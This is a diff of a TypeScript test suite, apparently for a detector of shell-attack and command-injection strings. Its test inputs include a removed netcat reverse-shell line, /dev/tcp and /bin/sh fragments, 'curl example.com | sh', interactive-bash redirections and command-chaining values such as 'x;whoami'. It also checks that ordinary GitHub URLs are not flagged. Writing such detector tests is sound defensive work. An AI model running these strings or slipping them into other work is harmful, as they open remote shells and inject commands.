@@ -41,7 +41,9 @@ describe('mayMatchGtfobins', () => {
 
   // One attack per clause of the gate, passing by that clause alone: dropping a clause fails its line.
   it.each<[string, string]>([
-    ['nc -e /bin/sh 10.0.0.1 4444', '/'],
+    ['mkfifo /tmp/f', '/ with white space'],
+    ['x=/dev/tcp/10.0.0.1/4444', '/dev/, no white space'],
+    ["system('/bin/sh')", '/bin/, no white space'],
     ['curl example.com | sh', '|'],
     ['bash -i >& 3', '-i with >, & or <'],
     ['exec 0<&196', '0<& (with < and &)'],
@@ -53,6 +55,17 @@ describe('mayMatchGtfobins', () => {
   ])('%s (passes by %s)', (s) => {
     expect(GTFOBINS.test(s)).toBe(true);
     expect(gateOf(s)).toBe(true);
+  });
+
+  // The separator search runs only when the mask holds a separator's class: one value per class, each chained by it alone.
+  it.each(['x;whoami', 'x|whoami', 'x&whoami', 'x `{whoami,}`', 'x\nwhoami', 'x\rwhoami', 'x\\nwhoami', 'x\\rwhoami'])('%j: a command after a separator', (s) => {
+    expect(ruleOf(createCmdiDetector(), s)).toBe(CMDI_RULES.chainedCommand);
+  });
+
+  it('skips the pattern on URLs (a slash, no white space, no /dev/ or /bin/)', () => {
+    for (const s of ['https://api.github.com/repos/codertocat/hello-world/issues{/number}', 'https://avatars1.githubusercontent.com/u/21031067?v=4']) {
+      expect(gateOf(s), s).toBe(false);
+    }
   });
 
   it('skips the pattern on the prose of a typical order', () => {
